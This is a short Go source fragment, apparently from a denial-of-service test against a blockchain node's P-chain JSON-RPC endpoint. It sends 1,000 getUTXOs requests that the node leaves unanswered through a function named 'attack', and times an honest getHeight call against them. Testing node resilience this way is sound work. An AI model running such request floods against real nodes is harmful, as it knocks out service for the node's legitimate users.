package main

import "context"

// slow forwards 1,000 calls at a time that the node does not answer.
func slow(ctx context.Context, t *target) error {
	body := []byte(`{"jsonrpc":"2.0","id":1,"method":"platform.getUTXOs","params":{"addresses":["` + slowMark + `"]}}`)
	return repeat(ctx, 1000, func(ctx context.Context, _, _ int) {
		t.attack(ctx, request{path: "/ext/bc/P", body: body})
	})
}

// forwarded is an honest call that the node answers at once.
func forwarded(*target, int) request {
	return request{from: honestFrom, path: "/ext/bc/P", body: []byte(`{"jsonrpc":"2.0","id":1,"method":"platform.getHeight","params":{ }}`)}
}
